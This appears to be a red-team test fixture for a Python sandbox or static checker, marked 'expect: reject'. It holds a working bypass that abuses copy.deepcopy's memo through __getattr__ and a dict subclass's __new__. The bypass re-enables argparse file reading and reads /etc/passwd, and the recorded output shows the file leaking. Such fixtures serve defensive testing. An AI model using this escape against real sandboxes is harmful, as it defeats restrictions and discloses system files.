# expect: reject dunder
# line: 32
# verified: ninth static red team, ok_08 (plain python3 3.11.7, temp dir: goal reached)
#
# Family C (the copy memo reached through __getattr__, and written without a spelled store): 
# copy.deepcopy(parser) with one argument (allowed) copies the parser. An action default=Spy() is 
# a program object whose __getattr__ (dunder-define) answers the name "__deepcopy__" (tested with 
# name.endswith("deepcopy__")) with an ordinary bound method grab(memo). copy.deepcopy does 
# getattr(x, "__deepcopy__", None) itself and calls what it gets with its memo. The round-7 memo 
# rule only judges a def named __deepcopy__, so grab keeps the memo. After the copy, 
# memo[id(memo)] (the keep-alive list) holds the originals copy went through, the original 
# parser's own __dict__ among them. The store rule taints the memo (a __getattr__ that may return 
# a function makes function values protocol methods), so target["fromfile_prefix_chars"] = "@" is 
# refused. The write is done instead by family N: a dict subclass whose __new__ returns that dict 
# (copy does y[key] = value). parse_args(["@/etc/passwd"]) then reads the file. No name is given 
# to getattr/setattr at run time by the program, and no dunder is spelled but the definitions of 
# __getattr__, __new__ and __getnewargs__.
# Goal reached: /etc/passwd read (argparse fromfile reading, on a parser whose facade refused fromfile_prefix_chars)
# Output under python3 (3.11.7, throw-away temp dir):
#   usage: p [-h] [--x X]
#   p: error: unrecognized arguments: root:x:0:0:root:/root:/bin/bash ... (every line of the file)
#   1

import argparse
import copy

SEEN = []
TARGET = []


class Spy:
    def __getattr__(self, name):
        if name.endswith("deepcopy__"):
            return self.grab
        raise AttributeError(name)

    def grab(self, memo):
        SEEN.append(memo)
        return 0


class Items(dict):
    def __new__(cls, *args):
        if args == ("copy",):
            return TARGET[0]
        return super().__new__(cls)

    def __getnewargs__(self):
        return ("copy",)


parser = argparse.ArgumentParser(prog="p")
parser.add_argument("--x", default=Spy())
copy.deepcopy(parser)
for value in SEEN[0].values():
    if isinstance(value, list):
        for item in value:
            if isinstance(item, dict) and "fromfile_prefix_chars" in item and "_actions" in item:
                TARGET.append(item)
print(len(TARGET))
copy.deepcopy(Items({"fromfile_prefix_chars": "@"}))
parser.parse_args(["@/etc/passwd"])
